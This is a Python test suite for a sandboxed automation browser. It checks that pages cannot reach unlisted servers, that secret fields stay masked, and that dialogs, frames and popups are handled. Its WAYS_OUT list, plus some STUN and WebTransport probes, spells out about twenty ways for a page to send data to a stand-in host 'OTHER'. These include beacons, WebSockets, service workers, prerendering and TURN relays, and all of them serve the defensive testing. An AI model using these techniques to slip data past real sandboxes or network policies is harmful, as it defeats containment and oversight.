"""What only a browser promises: nothing passes its gate, and all of a page can be seen and operated."""

from __future__ import annotations

import asyncio
import contextlib
import os
import signal
from collections.abc import AsyncIterator, Callable
from pathlib import Path

import pytest

from devices_screens import browser, processes, waited
from openmaas.apps.drivers.acts import Back, Home, Key, Launch, Scroll, Swipe, Tap, Type
from openmaas.apps.drivers.browser.allowed import read
from openmaas.apps.drivers.browser.driver import Browser
from openmaas.apps.drivers.driver import Element, Screen
from openmaas.core.errors import CannotAct, DeviceLost

#: Long, for a machine that has other things to do.
PATIENCE_S = 30.0


class Site:
    """A web server of paths and their pages, or of anything that is asked; ``came`` has what reached it."""

    def __init__(self, pages: dict[str, str]) -> None:
        self.pages, self.came = pages, list[str]()
        self.netloc = ""

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.came.append("")  # a connection is too much already
        with contextlib.suppress(OSError, asyncio.IncompleteReadError), contextlib.closing(writer):
            line = (await reader.readuntil(b"\r\n\r\n")).split(b" ")
            self.came[-1] = path = line[1].decode()
            page = self.pages.get(path.partition("?")[0], "")
            kind, body = ("text/javascript" if path.endswith(".js") else "text/html; charset=utf-8"), page.encode()
            head = f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\n"
            if page.startswith("→ "):
                head, body = f"HTTP/1.1 302 Found\r\nLocation: {page[2:]}\r\nContent-Length: 0\r\n", b""
            if path.endswith(".zip"):
                head += "Content-Disposition: attachment\r\n"
            writer.write(f"{head}\r\n".encode() + body)
            await writer.drain()


@contextlib.asynccontextmanager
async def site(pages: dict[str, str]) -> AsyncIterator[Site]:
    served = Site(pages)
    server = await asyncio.start_server(served.serve, "127.0.0.1", 0)
    served.netloc = f"127.0.0.1:{server.sockets[0].getsockname()[1]}"
    try:
        yield served
    finally:
        server.close()


@contextlib.asynccontextmanager
async def showing(page: str, **more: str) -> AsyncIterator[Browser]:
    pages = {"/": f"<!doctype html><title>start</title>{page}", **{f"/{name}": text for name, text in more.items()}}
    async with site(pages) as served, browser(f"http://{served.netloc}/") as driver:
        yield driver


def named(screen: Screen, text: str, role: str | None = None) -> Element:
    found = [element for element in screen.elements if element.text == text and role in (None, element.role)]
    assert found, (text, role, [(element.role, element.text) for element in screen.elements])
    return found[0]


async def until(driver: Browser, true: Callable[[Screen], bool]) -> Screen:
    """The screen as soon as this is true of it."""
    async with asyncio.timeout(PATIENCE_S):
        while not true(screen := await driver.look()):
            await asyncio.sleep(0.05)
    return screen


async def tap(driver: Browser, text: str, role: str | None = None) -> None:
    await driver.do(Tap(named(await driver.look(), text, role).box.middle))


#: Ways out that a page may try: a script each, in which OTHER is another server, which is not listed.
WAYS_OUT = {
    "a link": "location = 'http://OTHER/'",
    "a fetch": "await fetch('http://OTHER/', {mode: 'no-cors'})",
    "a beacon": "navigator.sendBeacon('http://OTHER/', 'secret')",
    "a picture": "new Image().src = 'http://OTHER/'",
    "a style": "document.body.style.background = 'url(http://OTHER/)'",
    "a WebSocket": "new WebSocket('ws://OTHER/')",
    "an event stream": "new EventSource('http://OTHER/')",
    "a frame": "add('iframe', {src: 'http://OTHER/'})",
    "a redirect": "location = '/away'",
    "a redirected fetch": "await fetch('/away', {mode: 'no-cors'})",
    "a popup": "window.open('http://OTHER/')",
    "a form": "add('form', {action: 'http://OTHER/'}).submit()",
    "a data page": "add('iframe', {src: 'data:text/html,<img src=http://OTHER/>'})",
    "a blob page": "location = URL.createObjectURL(new Blob(['<img src=http://OTHER/>'], {type: 'text/html'}))",
    "a javascript address": "location = \"javascript:fetch('http://OTHER/', {mode: 'no-cors'})\"",
    "a worker": "new Worker(URL.createObjectURL(new Blob([\"fetch('http://OTHER/', {mode: 'no-cors'})\"])))",
    "a service worker": "await navigator.serviceWorker.register('/worker.js')",
    "a prefetch": "for (const rel of ['prefetch', 'preload']) add('link', {rel, href: 'http://OTHER/', as: 'image'})",
    "a preconnection": "for (const rel of ['preconnect', 'dns-prefetch']) add('link', {rel, href: 'http://OTHER/'})",
    "speculation": "add('script', {type: 'speculationrules', textContent: "
    "JSON.stringify({prerender: [{urls: ['http://OTHER/'], eagerness: 'immediate'}]})})",
    "a relay over TCP": "const p = new RTCPeerConnection({iceServers: [{urls: 'turn:OTHER?transport=tcp', "
    "username: 'a', credential: 'b'}]}); p.createDataChannel(''); await p.setLocalDescription()",
}
PAGE = """<!doctype html><body><script type=module>
const add = (tag, more) => document.body.appendChild(Object.assign(document.createElement(tag), more));
SCRIPT
</script>"""
AWAY = {
    "/": "<!doctype html>",
    "/away": "→ http://OTHER/",
    "/worker.js": "fetch('http://OTHER/', {mode: 'no-cors'})",
}


async def reached(way: str, driver: Browser, listed: Site, other: Site, patience_s: float) -> bool:
    """Whether the other server hears anything when a page tries this."""
    pages = {**AWAY, "/try": PAGE.replace("SCRIPT", WAYS_OUT[way])}
    listed.pages.update({path: page.replace("OTHER", other.netloc) for path, page in pages.items()})
    port = int(other.netloc.partition(":")[2])
    await driver.do(Launch(f"http://{listed.netloc}/try"))
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(patience_s):
            while not other.came and all(refusal.port != port for refusal in driver.gate.refused):
                await asyncio.sleep(0.02)
    await driver.do(Home())
    return bool(other.came)


@waited
async def test_no_page_gets_past_the_gate() -> None:
    async with site({"/": "<!doctype html>"}) as listed, browser(f"http://{listed.netloc}/") as driver:
        for way in WAYS_OUT:
            async with site({"/": "gotcha"}) as other:
                assert not await reached(way, driver, listed, other, 3), way


@waited
async def test_every_way_out_leads_there_when_it_is_listed() -> None:
    """Else the test above could not fail."""
    async with site({"/": "<!doctype html>"}) as listed, browser(f"http://{listed.netloc}/") as driver:
        for way in WAYS_OUT:
            async with site({"/": "gotcha"}) as other:
                driver.gate.allowed = read((listed.netloc, other.netloc))
                assert await reached(way, driver, listed, other, PATIENCE_S), way


@waited
async def test_no_datagram_leaves_the_browser() -> None:
    heard = []

    class Ear(asyncio.DatagramProtocol):
        def datagram_received(self, data: bytes, addr: object) -> None:
            heard.append(data)

    transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(Ear, ("127.0.0.1", 0))
    port = transport.get_extra_info("sockname")[1]
    page = f"""<script type=module>
    const call = new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.1:{port}'}}]}});
    call.createDataChannel(''); await call.setLocalDescription();
    const quick = new WebTransport('https://127.0.0.1:{port}/');
    await Promise.allSettled([quick.ready, new Promise(done => setTimeout(done, 2000))]);
    document.title = 'tried ' + call.localDescription.sdp.includes('typ srflx');
    </script>"""
    async with showing(page) as driver:
        screen = await until(driver, lambda screen: screen.title.startswith("tried"))
    transport.close()
    assert (heard, screen.title) == ([], "tried false")


@waited
async def test_a_listed_name_that_leads_into_the_house_is_refused() -> None:
    async with site({"/": "inside"}) as inside, site({"/": "<title>start"}) as listed:
        port = inside.netloc.partition(":")[2]
        async with browser(f"http://{listed.netloc}/", f"localhost:{port}") as driver:
            await driver.do(Launch(f"http://localhost:{port}/"))
            assert any("not public and not listed" in refusal.why for refusal in driver.gate.refused)
        assert inside.came == []


@waited
async def test_an_address_that_is_not_listed_is_refused_in_words(tmp_path: Path) -> None:
    (tmp_path / "note.html").write_text("<title>a note")
    async with showing("") as driver:
        for address in (
            "http://192.0.2.1/",
            f"file://{tmp_path}/note.html",
            "javascript:1",
            "data:text/html,x",
            "chrome://version",
        ):
            with pytest.raises(CannotAct):
                await driver.do(Launch(address))
        assert (await driver.look()).title == "start"


@waited
async def test_only_listed_files_are_read(tmp_path: Path) -> None:
    (tmp_path / "listed").mkdir()
    (tmp_path / "secret.html").write_text("<title>secret</title>")
    (tmp_path / "listed" / "note.html").write_text(
        "<title>a note</title><a href=../secret.html>there</a><iframe src=../secret.html></iframe>"
    )
    async with browser("about:blank", files=(str(tmp_path / "listed"),)) as driver:
        await driver.do(Launch(f"file://{tmp_path}/listed/note.html"))
        assert (await driver.look()).title == "a note"
        await tap(driver, "there")
        await asyncio.sleep(0.5)
        assert (await driver.look()).title != "secret"
        with pytest.raises(CannotAct):
            await driver.do(Launch(f"file://{tmp_path}/listed/../secret.html"))


@waited
async def test_a_list_is_chosen_from_like_anything_else() -> None:
    page = "<select aria-label=Size onchange='document.title=value'><option>small<option>middle<option>large</select>"
    async with showing(page) as driver:
        closed = await driver.look()
        assert (named(closed, "Size").role, named(closed, "Size").value) == ("combobox", "small")
        assert all(element.role != "option" for element in closed.elements)
        await tap(driver, "Size")
        await until(driver, lambda screen: any(element.text == "large" for element in screen.elements))
        await tap(driver, "large", "option")
        assert named(await until(driver, lambda screen: screen.title == "large"), "Size").value == "large"
        await driver.do(Type("mi"))
        await until(driver, lambda screen: screen.title == "middle")


@waited
async def test_a_date_is_typed_as_what_it_is() -> None:
    page = "<input type=date onchange='document.title = value'>"
    async with showing(page) as driver:
        await tap(driver, "date")
        with pytest.raises(CannotAct, match="2030-12-31"):
            await driver.do(Type("tomorrow"))
        await driver.do(Type("2026-11-28"))
        assert named(await until(driver, lambda screen: screen.title == "2026-11-28"), "date").value == "2026-11-28"


@waited
async def test_dialogs_are_seen_and_answered() -> None:
    page = """<button onclick="document.title = 'done ' + alert('well then')">tell</button>
    <button onclick="document.title = confirm('really?')">ask</button>
    <button onclick="document.title = prompt('who?', 'nobody')">name</button>"""
    async with showing(page) as driver:
        await tap(driver, "tell")
        screen = await driver.look()
        assert named(screen, "well then")
        assert all(element.text != "Cancel" for element in screen.elements)
        await tap(driver, "OK")
        await until(driver, lambda screen: screen.title == "done undefined")
        for answer, title in (("OK", "true"), ("Cancel", "false")):
            await tap(driver, "ask")
            await tap(driver, answer)
            await until(driver, lambda screen, title=title: screen.title == title)
        await tap(driver, "name")
        assert named(await driver.look(), "", "textbox").value == "nobody"
        await driver.do(Type("智谱", clear=True))
        await driver.do(Key(("Enter",)))
        await until(driver, lambda screen: screen.title == "智谱")
        await tap(driver, "name")
        for leave in (Key(("Escape",)), Back()):
            await driver.do(leave)
            await until(driver, lambda screen: screen.title == "null")
            await driver.do(Home())
            await tap(driver, "name")


@waited
async def test_a_dialog_that_nobody_caused_is_seen() -> None:
    async with showing("<script>setInterval(() => alert('boo'), 500)</script>") as driver:
        for _ in range(3):
            await until(driver, lambda screen: any(element.text == "boo" for element in screen.elements))
            await tap(driver, "OK")


@waited
async def test_a_page_that_holds_on_is_left_after_a_question() -> None:
    page = "<script>onbeforeunload = event => event.preventDefault()</script><input aria-label=field>"
    async with showing(page, other="<title>other</title>") as driver:
        await tap(driver, "field")
        await driver.do(Type("unsaved"))
        await driver.do(Launch(driver.plan.home + "other"))
        await tap(driver, "OK")
        await until(driver, lambda screen: screen.title == "other")


@waited
async def test_a_new_page_comes_to_the_front_and_goes_back() -> None:
    opener = "<button onclick=\"window.open('/popup')\">open</button>"
    popup = "<title>popup</title><button onclick='window.close()'>done</button>"
    async with showing(opener, popup=popup) as driver:
        for leave in (Back(), Home()):
            await tap(driver, "open")
            await until(driver, lambda screen: screen.title == "popup")
            await driver.do(leave)
            await until(driver, lambda screen: screen.title == "start")
        await tap(driver, "open")
        await until(driver, lambda screen: screen.title == "popup")
        await tap(driver, "done")
        await until(driver, lambda screen: screen.title == "start")
        with pytest.raises(CannotAct):
            await driver.do(Back())


@waited
async def test_a_secret_never_leaves_the_page() -> None:
    page = (
        "<input type=password aria-label=Secret value=hunter2><input autocomplete=cc-number aria-label=Card value=4111>"
    )
    async with showing(page) as driver:
        screen = await driver.look()
        assert [(element.text, element.value, element.secret) for element in screen.elements] == [
            ("Secret", "", True),
            ("Card", "", True),
        ]


@waited
async def test_frames_and_shadows_are_seen_where_they_are() -> None:
    frame = "<body style='margin:0'><button onclick=\"parent.document.title='framed'\">inside</button>"
    page = """<div id=host></div><iframe src=/frame style='margin:50px'></iframe><script>
    host.attachShadow({mode: 'open'}).innerHTML =
    "<button onclick=\\"document.title='shadowed'\\">shade</button>"</script>"""
    async with showing(page, frame=frame) as driver:
        await until(driver, lambda screen: any(element.text == "inside" for element in screen.elements))
        for text, title in (("inside", "framed"), ("shade", "shadowed")):
            await tap(driver, text)
            await until(driver, lambda screen, title=title: screen.title == title)


@waited
async def test_what_is_covered_or_out_of_sight_is_not_told() -> None:
    page = """<button>plain</button><button hidden>hidden</button><button style='visibility:hidden'>invisible</button>
    <div style='height:40px;width:200px;overflow:auto'><p>first</p><p style='margin-top:100px'>second</p></div>
    <div style='position:relative'><button>under</button><b style='position:absolute;inset:0;background:#fff'></b></div>
    <p style='margin-top:2000px'>far below</p>"""
    async with showing(page) as driver:
        screen = await driver.look()
        assert {element.text for element in screen.elements} - {""} == {"plain", "first"}
        await driver.do(Scroll(named(screen, "first").box.middle, "down", 3))
        await until(driver, lambda screen: any(element.text == "second" for element in screen.elements))
        await driver.do(Scroll(named(screen, "plain").box.middle, "down", 100))
        await until(driver, lambda screen: any(element.text == "far below" for element in screen.elements))


@waited
async def test_places_stay_while_the_page_does() -> None:
    page = "<ul><li><button>x</button></li><li><button>x</button></li></ul><form id=f><button>x</button></form>"
    async with showing(page) as driver:
        places = [element.place for element in (await driver.look()).elements]
        assert len(set(places)) == 3
        assert places == [element.place for element in (await driver.look()).elements]


@waited
async def test_a_download_is_refused() -> None:
    async with showing("<a href=/big.zip>get it</a>", **{"big.zip": "zip"}) as driver:
        await tap(driver, "get it")
        await asyncio.sleep(1)
        assert (await driver.look()).title == "start"
        assert not [path for path in Path(driver.profile).rglob("*") if path.suffix in (".zip", ".crdownload")]


@waited
async def test_something_is_dragged() -> None:
    page = """<div draggable=true ondragstart="event.dataTransfer.setData('text', 'x')" style='width:60px'>thing</div>
    <div ondragover='event.preventDefault()' ondrop="document.title='dropped'" style='height:60px'>target</div>"""
    async with showing(page) as driver:
        screen = await driver.look()
        await driver.do(Swipe(named(screen, "thing").box.middle, named(screen, "target").box.middle))
        await until(driver, lambda screen: screen.title == "dropped")


@waited
async def test_closing_leaves_no_process_and_no_profile() -> None:
    async with showing("") as driver:
        assert processes(driver.profile)
        assert Path(driver.profile).exists()
        await driver.close()
        assert processes(driver.profile) == []
        assert not Path(driver.profile).exists()
        with pytest.raises(DeviceLost):
            await driver.look()


@waited
async def test_a_browser_that_died_is_lost() -> None:
    async with showing("") as driver:
        for process in processes(driver.profile):
            with contextlib.suppress(ProcessLookupError):
                os.kill(process, signal.SIGKILL)
        with pytest.raises(DeviceLost):
            await driver.look()
        with pytest.raises(DeviceLost):
            await driver.do(Home())
